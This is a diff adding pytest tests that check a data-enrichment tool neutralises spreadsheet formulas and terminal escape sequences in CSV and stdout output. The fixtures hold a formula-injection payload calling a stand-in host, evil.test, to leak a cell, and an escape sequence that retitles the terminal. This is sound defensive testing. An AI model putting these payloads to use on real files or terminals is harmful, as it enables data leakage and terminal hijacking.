@@ -2,12 +2,17 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
+import sys
 import unicodedata
 from pathlib import Path
 
 import pytest
 
+from revetl.cli.output import SafeStdout
+from revetl.enrich.lists.files import open_list, write_list
 from tests.support.cli_project import call, source
 
 # A title is set, the screen cleared, a colour begun in two ways, the direction turned; markup of rich, HTML, Markdown.
@@ -81,3 +86,33 @@ def test_a_pull_request_holds_text_and_nothing_else(hostile: str, capsys: pytest
     assert "<b>" not in out
     assert "@org" not in out, "a comment parts it, so that nobody is called"
     assert "http://" not in out
+
+
+def test_what_a_provider_says_is_no_formula_and_what_the_list_says_stays(tmp_path: Path) -> None:
+    source_file, written = tmp_path / "list.csv", io.BytesIO()
+    source_file.write_text("name,note\nAda,=1+1\n")
+    with open_list(str(source_file), io.BytesIO()) as listing:
+        said = ('=HYPERLINK("http://evil.test/?"&A1,"x")', f"Ada{STEERING}", "+33123456789")
+        rows = iter([[("Ada", "=1+1", *said), ("Bob", "", None, None, None)]])
+        write_list("-", written, listing, ("job_title", "city", "phone"), rows)
+    header, ada, bob = csv.reader(io.StringIO(written.getvalue().decode()))
+    assert header == ["name", "note", "job_title", "city", "phone"]
+    assert ada[:3] == ["Ada", "=1+1", '\'=HYPERLINK("http://evil.test/?"&A1,"x")']
+    assert is_safe(ada[3])
+    assert ada[3].startswith("Ada\\x1b]0;OWNED")
+    assert (ada[4], bob) == ("+33123456789", ["Bob", "", "", "", ""])
+
+
+def test_a_list_on_a_terminal_steers_it_not_and_into_a_pipe_it_is_as_it_is(monkeypatch: pytest.MonkeyPatch) -> None:
+    for looked_at in (True, False):
+        raw = io.BytesIO()
+        out = io.TextIOWrapper(raw, "utf-8")
+        monkeypatch.setattr(out, "isatty", lambda looked_at=looked_at: looked_at)
+        monkeypatch.setattr(sys, "stdout", out)
+        sink, octets = SafeStdout(), f"a,{STEERING}\nZoë,b".encode()
+        for at in range(0, len(octets), 3):  # in the midst of a character too
+            sink.write(octets[at : at + 3])
+        sink.flush()
+        assert is_safe(raw.getvalue().decode()) is looked_at
+        assert (raw.getvalue() == octets) is not looked_at
+        assert raw.getvalue().endswith("\nZoë,b".encode())
